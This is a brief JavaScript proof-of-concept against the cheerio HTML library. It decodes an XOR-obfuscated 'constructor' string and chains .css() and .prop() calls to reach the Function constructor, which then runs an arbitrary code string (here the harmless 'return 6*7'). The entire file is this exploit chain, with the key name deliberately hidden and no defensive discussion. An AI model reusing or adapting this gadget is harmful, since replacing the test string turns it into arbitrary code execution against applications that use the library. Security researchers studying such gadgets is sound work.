// Function: css(constructor) is Object; its constructor by the second read
const cheerio = require('cheerio');
const $ = cheerio.load('<a style="color:red">x</a>');
const k = String.fromCharCode(...[98, 110, 111, 114, 117, 115, 116, 98, 117, 110, 115].map((c) => c ^ 1));
const O = $('a').css(k);
O.type = 'tag';
try { console.log($(O).prop(k)('return 6*7')()); } catch (e) { console.log(e.message); }
